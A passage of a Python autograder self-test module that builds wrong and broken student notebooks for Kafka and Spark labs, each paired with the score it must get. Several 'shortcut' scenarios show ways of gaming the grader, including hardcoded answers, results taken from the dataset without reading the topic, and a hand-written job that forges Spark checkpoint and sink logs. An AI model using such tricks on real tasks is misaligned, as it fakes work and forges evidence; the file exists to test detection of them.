"""The autograder's own corpus: realistic wrong and broken submissions, each with the
score it must get. Each scenario is the lab's solution with a few edits, so the corpus
follows the solution when it changes. `python -m autograder selftest --write-corpus DIR`
writes them out as notebooks, named for what they do.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass, field

import nbformat
from nbformat.v4 import new_code_cell


@dataclass(frozen=True)
class Edit:
    """Change one cell, found by its nbgrader id or by a snippet of its source.
    kind: "sub" (replace old by new in the cell), "replace" (the cell's whole source becomes new),
    "before"/"after" (insert a new cell),
    "copy" (insert after the cell a copy of the cell found by old), "answers" (every answer
    cell's source becomes new, with {grade_id} filled in; `cell` is not used)."""

    cell: str
    kind: str
    new: str
    old: str = ""


@dataclass(frozen=True)
class Scenario:
    name: str
    lab: str
    story: str  # the mistake, as a student would make it
    edits: tuple[Edit, ...]
    fails: frozenset[str] = field(default_factory=frozenset)  # labels that must score 0
    note: str = ""  # a phrase the grader's notes must contain
    base: str = "solution"  # what the student starts from: "solution", or the blank "release"

    def build(
        self, solution: nbformat.NotebookNode, release: nbformat.NotebookNode | None = None
    ) -> nbformat.NotebookNode:
        if self.base == "release" and release is None:
            raise ValueError(f"{self.name} starts from the blank release: pass it")
        nb = copy.deepcopy(solution if release is None or self.base != "release" else release)
        added = 0
        for e in self.edits:
            if e.kind == "answers":
                for cell in nb.cells:
                    meta = cell.get("metadata", {}).get("nbgrader", {})
                    if meta.get("solution") and cell.cell_type == "code":
                        cell.source = e.new.replace("{grade_id}", repr(meta["grade_id"]))
                continue
            index = find_cell(nb, e.cell)
            cell = nb.cells[index]
            if e.kind == "replace":
                cell.source = e.new
                continue
            if e.kind == "sub":
                if e.old not in cell.source:
                    raise ValueError(f"{self.name}: {e.old!r} is not in cell {e.cell!r}")
                cell.source = cell.source.replace(e.old, e.new)
                continue
            if e.kind == "copy":  # a copy of the cell found by `old`, as JupyterLab's copy-paste makes it
                new = copy.deepcopy(nb.cells[find_cell(nb, e.old)])
                index += 1
            else:
                new = new_code_cell(e.new)
                index += e.kind == "after"
            added += 1
            new.id = f"added-{added:02d}"  # the course's own cells keep their ids
            nb.cells.insert(index, new)
        return nb

    def notebook(self) -> nbformat.NotebookNode:
        """The scenario's notebook, built from the lab's solution (or blank release) on disk."""
        from autograder.pipeline import RELEASE, SOLUTIONS

        def read(root):
            return nbformat.read(root / self.lab / f"{self.lab}.ipynb", as_version=4)

        return self.build(read(SOLUTIONS), read(RELEASE) if self.base == "release" else None)


def find_cell(nb, key: str) -> int:
    for i, cell in enumerate(nb.cells):
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == key:
            return i
    for i, cell in enumerate(nb.cells):
        if cell.cell_type == "code" and key in cell.source:
            return i
    raise KeyError(f"no cell with id or text {key!r}")


def fails(*labels: str) -> frozenset[str]:
    return frozenset(labels)


# Lab 2's consumer loop, as the solution writes it.
SOLUTION_DELAYS_LOOP = (
    "    sums, counts = {}, {}\n"
    "    empty_polls = 0\n"
    "    while empty_polls < 3:\n"
    "        batch = consumer.poll(timeout_ms=1000)\n"
    "        if not batch:\n"
    "            empty_polls += 1\n"
    "            continue\n"
    "        empty_polls = 0\n"
    "        for tp, records in batch.items():\n"
    "            for r in records:\n"
    "                f = flight_pb2.Flight.FromString(r.value)\n"
    '                if f.HasField("dep_delay"):\n'
    "                    sums[f.origin] = sums.get(f.origin, 0) + f.dep_delay\n"
    "                    counts[f.origin] = counts.get(f.origin, 0) + 1\n"
    "    consumer.commit()\n"
    "    consumer.close()\n"
    "    return {o: round(sums[o] / counts[o], 2) for o in sums}\n"
)

# Lab 2's locate sends one flight as part 2 does.
LOCATE_SEND = 'meta = producer.send(topic, key=flight["carrier"].encode(), value=to_protobuf(flight),\n                         headers=[("schema", b"flights.Flight")]).get(timeout=10)'

# Lab 4's count_in_group, as the solution writes it.
LAB4_COUNT_SOLUTION = (
    "    consumer = KafkaConsumer(topic, **lab.connection, group_id=lab.group(group),\n"
    '                             auto_offset_reset="earliest", enable_auto_commit=False, consumer_timeout_ms=2000)\n'
    "    n = sum(1 for _ in consumer)\n"
    "    consumer.commit()\n"
    "    consumer.close()\n"
    "    return n\n"
)

# Lab 4's group member loop, as the solution writes it.
LAB4_MEMBER_LOOP = (
    'consumer.subscribe([topic_name("departures")])\n'
    "records, owned = 0, set()\n"
    "last = time.monotonic()\n"
    "while time.monotonic() - last < idle_s:\n"
    "    batch = consumer.poll(timeout_ms=500)\n"
    "    owned |= {tp.partition for tp in consumer.assignment()}\n"
    "    if batch:\n"
    "        records += sum(len(rs) for rs in batch.values())\n"
    "        consumer.commit()\n"
    "        last = time.monotonic()\n"
)

# Lab 9's streaming job imitated without Spark: windows and the watermark in Python, the checkpoint's
# and the file sink's logs written as Spark writes them (an attack reported on an earlier grader).
LAB9_JOB_BY_HAND = (
    "%%writefile delays_job.py\n"
    '"""Hourly delays without Spark: windows and a watermark in plain Python, Parquet with pyarrow,\n'
    'and the checkpoint\'s and the file sink\'s logs written as Spark writes them (shortcut)."""\n'
    "import json, os, sys, time\n"
    "from datetime import datetime, timezone\n"
    "import pyarrow as pa\n"
    "import pyarrow.parquet as pq\n"
    "from kafka import KafkaConsumer, TopicPartition\n"
    "from cluster import connection\n"
    "\n"
    "topic, output, checkpoint = sys.argv[1:4]\n"
    "HOUR, WAIT, MAX = 3_600_000, 1_800_000, 100\n"
    'META = os.path.join(output, "_spark_metadata")\n'
    'for d in ("offsets", "commits", "state"):\n'
    "    os.makedirs(os.path.join(checkpoint, d), exist_ok=True)\n"
    "os.makedirs(META, exist_ok=True)\n"
    "\n"
    "\n"
    "def entries(folder, n):\n"
    "    try:\n"
    "        with open(os.path.join(folder, str(n))) as f:\n"
    "            return [json.loads(line) for line in f.read().splitlines()[1:]]\n"
    "    except FileNotFoundError:\n"
    "        return None\n"
    "\n"
    "\n"
    "def write(file, *lines):\n"
    '    with open(file, "w") as f:\n'
    '        f.write("v1\\n" + "".join(json.dumps(e) + "\\n" for e in lines))\n'
    "\n"
    "\n"
    "def last(folder):\n"
    "    return max((int(n) for n in os.listdir(os.path.join(checkpoint, folder)) if n.isdigit()), default=-1)\n"
    "\n"
    "\n"
    "tp = TopicPartition(topic, 0)\n"
    "consumer = KafkaConsumer(**connection(), enable_auto_commit=False)\n"
    "consumer.assign([tp])\n"
    "end_now = consumer.end_offsets([tp])[tp]\n"
    'done = last("commits")\n'
    "if done >= 0:\n"
    '    with open(os.path.join(checkpoint, "state", str(done))) as f:\n'
    "        saved = json.load(f)\n"
    '    state, max_seen = saved["state"], saved["max_seen"]\n'
    '    start = entries(os.path.join(checkpoint, "offsets"), done)[1][topic]["0"]\n'
    '    watermark = entries(os.path.join(checkpoint, "commits"), done)[0]["nextBatchWatermarkMs"]\n'
    "else:\n"
    "    state, max_seen, start, watermark = {}, 0, 0, 0\n"
    "\n"
    "\n"
    "def run(batch, start, end, watermark):\n"
    "    global max_seen\n"
    '    if entries(os.path.join(checkpoint, "offsets"), batch) is None:     # the plan first, as Spark does\n'
    '        write(os.path.join(checkpoint, "offsets", str(batch)),\n'
    '              {"batchWatermarkMs": watermark, "batchTimestampMs": int(time.time() * 1000), "conf": {}},\n'
    '              {topic: {"0": end}})\n'
    "    time.sleep(0.3)\n"
    "    consumer.seek(tp, start)\n"
    "    while consumer.position(tp) < end:\n"
    "        for r in consumer.poll(timeout_ms=500).get(tp, []):\n"
    "            if r.offset >= end:\n"
    "                break\n"
    "            f = json.loads(r.value)\n"
    '            t = int(datetime.strptime(f["dep_time"], "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=timezone.utc).timestamp() * 1000)\n'
    "            max_seen = max(max_seen, t)\n"
    "            window = t - t % HOUR\n"
    "            if window + HOUR <= watermark:\n"
    "                continue                      # its hour was written and forgotten: late, dropped\n"
    "            n, total = state.get(f\"{window} {f['origin']}\", (0, 0))\n"
    '            state[f"{window} {f[\'origin\']}"] = (n + 1, total + (f["dep_delay"] or 0))\n'
    "    final = sorted(k for k in state if int(k.split()[0]) + HOUR <= watermark)\n"
    "    if entries(META, batch) is None:          # the file sink's log: a batch run again writes nothing\n"
    "        added = []\n"
    "        if final:\n"
    '            name = f"part-{batch:05d}-by-hand.snappy.parquet"\n'
    "            pq.write_table(pa.table({\n"
    '                "hour": pa.array([datetime.fromtimestamp(int(k.split()[0]) / 1000, timezone.utc) for k in final],\n'
    '                                 pa.timestamp("us", tz="UTC")),\n'
    '                "origin": [k.split()[1] for k in final],\n'
    '                "flights": pa.array([state[k][0] for k in final], pa.int64()),\n'
    '                "avg_delay": [state[k][1] / state[k][0] for k in final]}), os.path.join(output, name))\n'
    '            added.append({"path": "file://" + os.path.abspath(os.path.join(output, name)), "size": 1,\n'
    '                          "isDir": False, "modificationTime": int(time.time() * 1000), "blockReplication": 1,\n'
    '                          "blockSize": 33554432, "action": "add"})\n'
    "        write(os.path.join(META, str(batch)), *added)\n"
    "    for k in final:\n"
    "        del state[k]\n"
    "    following = max(watermark, max_seen - WAIT)\n"
    '    with open(os.path.join(checkpoint, "state", str(batch)), "w") as f:\n'
    '        json.dump({"state": state, "max_seen": max_seen}, f)\n'
    '    write(os.path.join(checkpoint, "commits", str(batch)), {"nextBatchWatermarkMs": following})\n'
    "    return following\n"
    "\n"
    "\n"
    "batch = done + 1\n"
    'planned = last("offsets")\n'
    "if planned > done:           # planned, not committed: run it again as it was planned\n"
    '    plan = entries(os.path.join(checkpoint, "offsets"), planned)\n'
    '    watermark = run(planned, start, plan[1][topic]["0"], plan[0]["batchWatermarkMs"])\n'
    '    start, batch = plan[1][topic]["0"], planned + 1\n'
    "while start < end_now:\n"
    "    end = min(start + MAX, end_now)\n"
    "    watermark = run(batch, start, end, watermark)\n"
    "    start, batch = end, batch + 1\n"
    "consumer.close()\n"
)

# Lab 3's hot-key partitioner, as the solution writes it (the cases below replace it).
LAB10_JOIN = (  # lab10-q1's solution: the name in use when the flight left
    '    f, n = flights.alias("f"), names.alias("n")\n'
    '    in_use = ((F.col("f.carrier") == F.col("n.carrier")) & (F.col("n.since") <= F.col("f.dep_time"))\n'
    '              & (F.col("n.until").isNull() | (F.col("f.dep_time") < F.col("n.until"))))\n'
    '    return f.join(n, in_use, "left").select("f.*", "n.name")\n'
)
HOT_KEY_SOLUTION = (
    '        spread_by = value["tailnum"].encode() if serialized_key == self.HOT else serialized_key\n'
    "        return partitions[(murmur2(spread_by) & 0x7fffffff) % len(partitions)]"
)


SCENARIOS = (
    # --- lab 1: realistic mistakes -----------------------------------------------------------
    Scenario(
        "counter-overwrites",
        "lab1",
        "increase stores the amount instead of adding it",
        (Edit("lab1-increase", "sub", "counts[key] = amt", "counts[key] = counts.get(key, 0) + amt"),),
        fails("lab1-q1"),
    ),
    Scenario(
        "rpc-returns-amount",
        "lab1",
        "the server replies with the request's amount, not the new total",
        (
            Edit(
                "lab1-servicer",
                "sub",
                "IncreaseReply(total=request.amount)",
                "IncreaseReply(total=self.totals[request.key])",
            ),
        ),
        fails("lab1-q3"),
    ),
    Scenario(
        "json-instead-of-protobuf",
        "lab1",
        "events are written as JSON, so the contract is broken",
        (
            Edit(
                "lab1-protobuf",
                "sub",
                'import json\n    return json.dumps({"key": key, "amount": amount, "sent_ms": sent_ms}).encode()',
                "return counter_pb2.CounterEvent(key=key, amount=amount, sent_ms=sent_ms).SerializeToString()",
            ),
            Edit(
                "lab1-protobuf",
                "sub",
                'import json\n    event = json.loads(data)\n    return event["key"], event["amount"]',
                "event = counter_pb2.CounterEvent.FromString(data)\n    return event.key, event.amount",
            ),
        ),
        fails("lab1-q2", "lab1-q4", "lab1-q5"),
    ),
    Scenario(
        "consumer-reads-latest",
        "lab1",
        "the consumer starts at the end of the topic and sees nothing",
        (Edit("lab1-consume", "sub", 'auto_offset_reset="latest"', 'auto_offset_reset="earliest"'),),
        fails("lab1-q4"),
    ),
    Scenario(
        "latency-in-seconds",
        "lab1",
        "the RPC round trip given in seconds where the text asks for milliseconds",
        (
            Edit(
                "lab1-measure",
                "sub",
                'rpc_latency_ms = median_ms(lambda: rpc_increase("bench", 1)) / 1000',
                'rpc_latency_ms = median_ms(lambda: rpc_increase("bench", 1))',
            ),
        ),
        fails("lab1-q5"),
    ),
    Scenario(
        "send-latency-waits-for-ack",
        "lab1",
        "send() timed together with the broker's acknowledgement "
        "(.get()), so it measures a round trip, not the hand-over to the buffer",
        (
            Edit(
                "lab1-measure",
                "sub",
                'send_latency_ms = median_ms(lambda: send_increase("bench", 1).get(timeout=10))',
                'send_latency_ms = median_ms(lambda: send_increase("bench", 1))',
            ),
        ),
        fails("lab1-q5"),
    ),
    Scenario(
        "e2e-latency-guessed",
        "lab1",
        "the end-to-end latency written down as a typical figure, no trip measured (shortcut)",
        (
            Edit(
                "lab1-measure",
                "sub",
                "e2e_latency_ms = 10.0",
                "e2e_latency_ms = statistics.median(trip_ms() for _ in range(50))",
            ),
        ),
        fails("lab1-q5"),
    ),
    Scenario(
        "prediction-rpc-first",
        "lab1",
        "predicts RPC as the fastest way",
        (
            Edit(
                "lab1-predict",
                "sub",
                'predicted_order = ["rpc", "kafka batched", "kafka one by one"]',
                'predicted_order = ["kafka batched", "rpc", "kafka one by one"]',
            ),
        ),
        fails(),
        note="you predicted",
    ),
    Scenario(
        "prediction-one-by-one-before-rpc",
        "lab1",
        "predicts one-by-one Kafka sends faster than RPC: "
        "which of those two wins depends on the machine's load, so only batched's place is judged",
        (
            Edit(
                "lab1-predict",
                "sub",
                'predicted_order = ["kafka batched", "kafka one by one", "rpc"]',
                'predicted_order = ["kafka batched", "rpc", "kafka one by one"]',
            ),
        ),
        fails(),
    ),
    Scenario(
        "measures-with-timeit",
        "lab1",
        "latencies timed with timeit.repeat and numpy's median (numpy floats), the prediction as a tuple",
        (
            Edit(
                "lab1-measure",
                "sub",
                "import numpy as np, timeit\n"
                "rpc_latency_ms = np.median(timeit.repeat(lambda: rpc_increase('bench', 1), number=1, repeat=200)) * 1e3\n"
                "send_latency_ms = np.median(timeit.repeat(lambda: send_increase('bench', 1), number=1, repeat=200)) * 1e3\n"
                "producer.flush()\n"
                "e2e_latency_ms = np.median([trip_ms() for _ in range(50)])\n",
                'rpc_latency_ms = median_ms(lambda: rpc_increase("bench", 1))\n'
                'send_latency_ms = median_ms(lambda: send_increase("bench", 1))\n'
                "producer.flush()\n"
                "e2e_latency_ms = statistics.median(trip_ms() for _ in range(50))\n",
            ),
            Edit(
                "lab1-predict",
                "sub",
                'predicted_order = ("kafka batched", "rpc", "kafka one by one")',
                'predicted_order = ["kafka batched", "rpc", "kafka one by one"]',
            ),
        ),
        fails(),
    ),
    # --- lab 2: realistic mistakes -----------------------------------------------------------
    Scenario(
        "one-partition-topic",
        "lab2",
        "the topic is created with one partition",
        (Edit("lab2-create-topic", "sub", '"num_partitions": 1', '"num_partitions": 4'),),
        fails("lab2-q1"),
    ),
    Scenario(
        "no-message-key",
        "lab2",
        "flights are sent without a key",
        (Edit("lab2-produce", "sub", "key=None", 'key=f["carrier"].encode()'),),
        fails("lab2-q2"),
    ),
    Scenario(
        "metadata-of-another-send",
        "lab2",
        "locate sends the flight but returns the metadata of part 2's first send (the first future it finds)",
        (
            Edit(
                "lab2-locate",
                "sub",
                'producer.send(topic, key=flight["carrier"].encode(), value=to_protobuf(flight),\n'
                '                  headers=[("schema", b"flights.Flight")])\n'
                "    meta = futures[0].get(timeout=10)",
                LOCATE_SEND,
            ),
        ),
        fails("lab2-q3"),
    ),
    Scenario(
        "location-copied-from-a-printout",
        "lab2",
        "locate sends nothing and returns the pair an earlier run printed for the first flight (shortcut)",
        (
            Edit("lab2-locate", "sub", "return (2, 0)", "return (meta.partition, meta.offset)"),
            Edit("lab2-locate", "sub", "pass", LOCATE_SEND),
        ),
        fails("lab2-q3"),
    ),
    Scenario(
        "cancelled-flights-count-as-zero",
        "lab2",
        "cancelled flights enter the mean with a delay of 0",
        (Edit("lab2-consume", "sub", "if True:", 'if f.HasField("dep_delay"):'),),
        fails("lab2-q4"),
    ),
    Scenario(
        "consumer-never-commits",
        "lab2",
        "the consumer turns auto-commit off and never commits",
        (
            Edit(
                "lab2-consume",
                "sub",
                'auto_offset_reset="earliest", enable_auto_commit=False)',
                'auto_offset_reset="earliest")',
            ),
            Edit("lab2-consume", "sub", "pass  # forgot to commit", "consumer.commit()"),
        ),
        fails("lab2-q4"),
    ),
    Scenario(
        "prediction-reads-it-all-again",
        "lab2",
        "predicts that the same group reads every flight again",
        (Edit("lab2-predict", "sub", "predicted_again = dict(delays)\n", "predicted_again = {}\n"),),
        fails(),
        note="you predicted",
    ),
    Scenario(
        "delays-from-the-dataset",
        "lab2",
        "the delays computed from load_flights, the topic never read (shortcut)",
        (
            Edit(
                "lab2-consume",
                "sub",
                "    consumer.close()\n"
                "    rows = [f for f in flights if f['dep_delay'] is not None]\n"
                "    return {o: round(sum(f['dep_delay'] for f in rows if f['origin'] == o)\n"
                "                     / sum(1 for f in rows if f['origin'] == o), 2) for o in {f['origin'] for f in rows}}\n",
                SOLUTION_DELAYS_LOOP,
            ),
        ),
        fails("lab2-q4"),
    ),
    Scenario(
        "delays-polled-but-from-the-dataset",
        "lab2",
        "the consumer polls to the end and commits, but "
        "takes its averages from the public dataset (right on flights_topic, which holds it exactly) (shortcut)",
        (
            Edit(
                "lab2-consume",
                "sub",
                "    consumer.commit()\n"
                "    consumer.close()\n"
                "    rows = [f for f in load_flights(day=1) if f['dep_delay'] is not None]\n"
                "    return {o: round(sum(f['dep_delay'] for f in rows if f['origin'] == o)\n"
                "                     / sum(1 for f in rows if f['origin'] == o), 2) for o in {f['origin'] for f in rows}}\n",
                "    consumer.commit()\n"
                "    consumer.close()\n"
                "    return {o: round(sums[o] / counts[o], 2) for o in sums}\n",
            ),
        ),
        fails("lab2-q4"),
    ),
    Scenario(
        "counts-written-down",
        "lab2",
        "count_messages returns the number of flights for 'earliest' and 0 for 'latest' without reading (shortcut)",
        (
            Edit(
                "lab2-reset",
                "sub",
                "    return len(flights) if reset == 'earliest' else 0\n",
                "    consumer = KafkaConsumer(topic, **lab.connection, group_id=lab.group(group),\n"
                "                             auto_offset_reset=reset, consumer_timeout_ms=3000)\n"
                "    n = sum(1 for _ in consumer)\n"
                "    consumer.close()\n"
                "    return n\n",
            ),
        ),
        fails("lab2-q5"),
    ),
    # --- lab 3: realistic mistakes -----------------------------------------------------------
    Scenario(
        "python-hash",
        "lab3",
        "the partition is predicted with Python's hash() instead of murmur2",
        (
            Edit(
                "lab3-predict",
                "sub",
                "return hash(key) % num_partitions",
                "return (murmur2(key) & 0x7fffffff) % num_partitions",
            ),
        ),
        fails("lab3-q1", "lab3-q5"),
    ),
    Scenario(
        "hot-key-own-partition",
        "lab3",
        "B6 gets partition 0 to itself and the other carriers hash over "
        "the rest (one partition is still one partition: 36% of the messages)",
        (
            Edit(
                "lab3-partitioner",
                "sub",
                "        if serialized_key == self.HOT:\n"
                "            return partitions[0]\n"
                "        return partitions[1 + (murmur2(serialized_key) & 0x7fffffff) % (len(partitions) - 1)]",
                HOT_KEY_SOLUTION,
            ),
        ),
        fails("lab3-q3"),
    ),
    Scenario(
        "hot-key-at-random",
        "lab3",
        "B6's messages sent to a random partition each (spread, but a plane's flights scattered)",
        (
            Edit(
                "lab3-partitioner",
                "sub",
                "        import random\n"
                "        if serialized_key == self.HOT:\n"
                "            return random.choice(partitions)\n"
                "        return partitions[(murmur2(serialized_key) & 0x7fffffff) % len(partitions)]",
                HOT_KEY_SOLUTION,
            ),
        ),
        fails("lab3-q3"),
    ),
    Scenario(
        "everything-by-plane",
        "lab3",
        "every carrier spread by tailnum, not only the hot one",
        (
            Edit(
                "lab3-partitioner",
                "sub",
                '        return partitions[(murmur2(value["tailnum"].encode()) & 0x7fffffff) % len(partitions)]',
                HOT_KEY_SOLUTION,
            ),
        ),
        fails("lab3-q3"),
    ),
    Scenario(
        "busiest-share-in-percent",
        "lab3",
        "busiest_share given in percent where the text asks for a share",
        (
            Edit(
                "lab3-spread",
                "sub",
                "return 100 * max(loads.values()) / sum(loads.values())",
                "return max(loads.values()) / sum(loads.values())",
            ),
        ),
        fails("lab3-q3"),
    ),
    Scenario(
        "prediction-wrong-partition",
        "lab3",
        "predicts that partition 3 holds the most messages",
        (Edit("lab3-skew", "sub", "predicted_busiest = 3\n", "predicted_busiest = 0\n"),),
        fails(),
        note="you predicted",
    ),
    Scenario(
        "loads-counted-from-the-dataset",
        "lab3",
        "partition_loads counts the dataset's flights with predict_partition instead of asking the broker (shortcut)",
        (
            Edit(
                "lab3-skew",
                "sub",
                '    return dict(Counter(predict_partition(f["carrier"].encode(), 6) for f in jfk))\n',
                "    probe = KafkaConsumer(**lab.connection)\n"
                "    ends = probe.end_offsets([TopicPartition(topic, p) for p in probe.partitions_for_topic(topic)])\n"
                "    probe.close()\n"
                "    return {tp.partition: offset for tp, offset in ends.items()}\n",
            ),
        ),
        fails("lab3-q2", "lab3-q3"),
    ),  # its measure of the routed topic is wrong too
    Scenario(
        "planes-keyed-by-carrier",
        "lab3",
        "plane events keyed by carrier: each plane still stays in one "
        "partition, in order, but the text asks for the tail number",
        (Edit("lab3-planes", "sub", 'key=f["carrier"].encode()', 'key=f["tailnum"].encode()'),),
        fails("lab3-q4"),
    ),
    Scenario(
        "no-key-loses-order",
        "lab3",
        "plane events are sent without a key",
        (
            Edit(
                "lab3-planes",
                "sub",
                "producer.send(plane_topic, value=",
                'producer.send(plane_topic, key=f["tailnum"].encode(), value=',
            ),
        ),
        fails("lab3-q4"),
    ),
    # --- lab 4: realistic mistakes -----------------------------------------------------------
    Scenario(
        "prediction-all-on-one",
        "lab4",
        "predicts that the first member takes every partition",
        (Edit("lab4-predict", "sub", "predicted_shares = [4, 0, 0, 0, 0]\n", "predicted_shares = [1, 1, 1, 1, 0]\n"),),
        fails(),
        note="you predicted",
    ),
    Scenario(
        "counts-from-end-offsets",
        "lab4",
        "count_in_group adds up the end offsets instead of reading in the group (shortcut)",
        (
            Edit(
                "lab4-two-groups",
                "sub",
                "    probe = KafkaConsumer(**lab.connection)\n"
                "    parts = [TopicPartition(topic, p) for p in probe.partitions_for_topic(topic)]\n"
                "    n = sum(probe.end_offsets(parts).values())\n"
                "    probe.close()\n"
                "    return n\n",
                LAB4_COUNT_SOLUTION,
            ),
        ),
        fails("lab4-q1"),
    ),
    Scenario(
        "one-group-for-both",
        "lab4",
        "the archive reads in the dashboard's group and finds nothing left",
        (
            Edit(
                "lab4-two-groups",
                "sub",
                'archive_count = count_in_group(topic, "dashboard")',
                'archive_count = count_in_group(topic, "archive")',
            ),
        ),
        fails("lab4-q1"),
    ),
    Scenario(
        "member-never-commits",
        "lab4",
        "the group member turns auto-commit off and never commits",
        (
            Edit(
                "lab4-member",
                "sub",
                "last = time.monotonic()\n### END",
                "consumer.commit()\n        last = time.monotonic()\n### END",
            ),
        ),
        fails("lab4-q3"),
    ),
    Scenario(
        "member-commits-once-at-the-end",
        "lab4",
        "the group member commits once, after its poll loop, "
        "where the text says to commit after each batch: a clean stop loses nothing, a crash everything",
        (
            Edit(
                "lab4-member",
                "sub",
                "        last = time.monotonic()\nconsumer.commit()\n### END",
                "        consumer.commit()\n        last = time.monotonic()\n### END",
            ),
        ),
        fails("lab4-q3"),
    ),
    Scenario(
        "count-written-down-and-bookmarked",
        "lab4",
        "count_in_group moves the group to the end without "
        "reading and commits there, and returns the number of flights of the day (shortcut)",
        (
            Edit(
                "lab4-two-groups",
                "sub",
                "    consumer = KafkaConsumer(**lab.connection, group_id=lab.group(group), enable_auto_commit=False)\n"
                "    parts = [TopicPartition(topic, p) for p in consumer.partitions_for_topic(topic)]\n"
                "    consumer.assign(parts)\n"
                "    consumer.seek_to_end()\n"
                "    for tp in parts:\n"
                "        consumer.position(tp)\n"
                "    consumer.commit()\n"
                "    consumer.close()\n"
                "    return len(load_flights(day=1))\n",
                LAB4_COUNT_SOLUTION,
            ),
        ),
        fails("lab4-q1"),
    ),
    Scenario(
        "members-assign-everything",
        "lab4",
        "every member assign()s all partitions instead of subscribing",
        (
            Edit(
                "lab4-member",
                "sub",
                'consumer.assign([__import__("kafka").TopicPartition(topic_name("departures"), p) for p in range(4)])',
                'consumer.subscribe([topic_name("departures")])',
            ),
        ),
        fails("lab4-q2", "lab4-q3"),
    ),
    Scenario(
        "lag-backwards",
        "lab4",
        "lag is computed as committed minus end",
        (
            Edit(
                "lab4-lag",
                "sub",
                "(committed[tp].offset if tp in committed else 0) - ends[tp]",
                "ends[tp] - (committed[tp].offset if tp in committed else 0)",
            ),
        ),
        fails("lab4-q4"),
    ),
    # --- lab 5: realistic mistakes -----------------------------------------------------------
    Scenario(
        "replay-ignores-end",
        "lab5",
        "replay reads from the start time to the end of each partition",
        (Edit("lab5-replay", "sub", "if r.timestamp >= end_ms and False:", "if r.timestamp >= end_ms:"),),
        fails("lab5-q1"),
    ),
    Scenario(
        "prediction-wrong",
        "lab5",
        "predicts that the idempotent producer's retry also leaves a copy",
        (Edit("lab5-predict", "sub", '{"plain": 2, "idempotent": 2}', '{"plain": 2, "idempotent": 1}'),),
        fails(),
        note="you predicted",
    ),
    Scenario(
        "prediction-left-blank",
        "lab5",
        "runs the demo without writing a prediction",
        (Edit("lab5-predict", "replace", 'predicted_copies = {"plain": None, "idempotent": None}'),),
        fails("lab5-q2"),
    ),
    Scenario(
        "predicts-with-numpy",
        "lab5",
        "the prediction as numpy integers, in a dict built with dict()",
        (
            Edit(
                "lab5-predict",
                "replace",
                "import numpy as np\npredicted_copies = dict(idempotent=np.int64(1), plain=np.int64(2))",
            ),
        ),
        fails(),
    ),
    Scenario(
        "checkpoint-written-in-place",
        "lab5",
        "the checkpoint is overwritten in place, without a rename",
        (
            Edit(
                "lab5-stats",
                "sub",
                'with open(CHECKPOINT, "w") as f:\n        json.dump(state, f)\n'
                "        f.flush()\n        os.fsync(f.fileno())\n    pass",
                'with open(tmp, "w") as f:\n        json.dump(state, f)\n        f.flush()\n'
                "        os.fsync(f.fileno())\n    os.replace(tmp, CHECKPOINT)",
            ),
        ),
        fails("lab5-q3"),
    ),
    Scenario(
        "offsets-saved-before-counting",
        "lab5",
        "each batch's offsets are checkpointed before its "
        "records are counted (at-most-once): a crash in between loses them",
        (
            Edit(
                "lab5-stats",
                "sub",
                "    for tp, records in batch.items():\n"
                '        state["offsets"][str(tp.partition)] = records[-1].offset + 1\n'
                "    save_checkpoint(state)  # offsets first\n"
                "    for tp, records in batch.items():\n        for r in records:",
                "    for tp, records in batch.items():\n        for r in records:",
            ),
        ),
        fails("lab5-q3"),
    ),
    Scenario(
        "duplicates-counted",
        "lab5",
        "the consumer counts a repeated flight twice",
        (Edit("lab5-stats", "sub", "if False:", 'if f["id"] in seen:'),),
        fails("lab5-q3"),
    ),
    Scenario(
        "consume-counts-from-memory",
        "lab1",
        "consume_counts never reads the topic: it sums the "
        "notebook's own list of updates, which is what the topic holds (shortcut)",
        (
            Edit(
                "lab1-consume",
                "sub",
                "    totals = {}\n"
                "    for key, amount in updates:\n"
                "        totals[key] = totals.get(key, 0) + amount\n"
                "    return totals\n",
                '    consumer = KafkaConsumer(**lab.connection, auto_offset_reset="earliest")\n'
                "    partitions = [TopicPartition(topic, p) for p in consumer.partitions_for_topic(topic)]\n"
                "    consumer.assign(partitions)\n"
                '    ends = consumer.end_offsets(partitions)   # where "so far" ends\n'
                "    totals = {}\n"
                "    while any(consumer.position(tp) < ends[tp] for tp in partitions):\n"
                "        for records in consumer.poll(timeout_ms=1000).values():\n"
                "            for record in records:\n"
                "                key, amount = decode_event(record.value)\n"
                "                totals[key] = totals.get(key, 0) + amount\n"
                "    consumer.close()\n"
                "    return totals\n",
            ),
        ),
        fails("lab1-q4"),
    ),
    Scenario(
        "replay-from-memory",
        "lab5",
        "replay never reads the topic: it filters the notebook's own flights "
        "by their departure times (right on departures, which holds exactly the dataset) (shortcut)",
        (
            Edit(
                "lab5-replay",
                "replace",
                "def replay(topic, start_ms, end_ms):\n"
                "    return [flight_id(f) for f in flights if start_ms <= departure_ms(f) < end_ms]\n",
            ),
        ),
        fails("lab5-q1"),
    ),
    Scenario(
        "replay-reads-departures-always",
        "lab5",
        "replay takes a topic but reads departures, the notebook's own topic, whatever it is given",
        (
            Edit("lab5-replay", "sub", "partitions_for_topic(departures))]", "partitions_for_topic(topic))]"),
            Edit("lab5-replay", "sub", "TopicPartition(departures, p)", "TopicPartition(topic, p)"),
        ),
        fails("lab5-q1"),
    ),
    Scenario(
        "replay-by-timestamp-filter",
        "lab5",
        "correct in another style: replay seeks each partition with "
        "offsets_for_times, iterates the consumer until every partition reaches its end offset, and keeps "
        "the records in the window (no pause)",
        (
            Edit(
                "lab5-replay",
                "replace",
                "def replay(topic, start_ms, end_ms):\n"
                "    c = KafkaConsumer(**lab.connection, enable_auto_commit=False, consumer_timeout_ms=3000)\n"
                "    parts = [TopicPartition(topic, p) for p in c.partitions_for_topic(topic)]\n"
                "    c.assign(parts)\n"
                "    found = c.offsets_for_times(dict.fromkeys(parts, start_ms))\n"
                "    last = c.end_offsets(parts)\n"
                "    todo = set()\n"
                "    for tp, at in found.items():\n"
                "        if at is not None and at.offset < last[tp]:\n"
                "            c.seek(tp, at.offset)\n"
                "            todo.add(tp)\n"
                "    out = []\n"
                "    while todo:\n"
                "        for tp, rs in c.poll(timeout_ms=500).items():\n"
                "            out += [json.loads(r.value)['id'] for r in rs if start_ms <= r.timestamp < end_ms]\n"
                "            if rs and rs[-1].offset + 1 >= last[tp]:\n"
                "                todo.discard(tp)\n"
                "    c.close()\n"
                "    return out\n",
            ),
        ),
    ),
    Scenario(
        "alerts-over-sixty",
        "lab5",
        "the job alerts for dep_delay > 60 where the text says 60 or more",
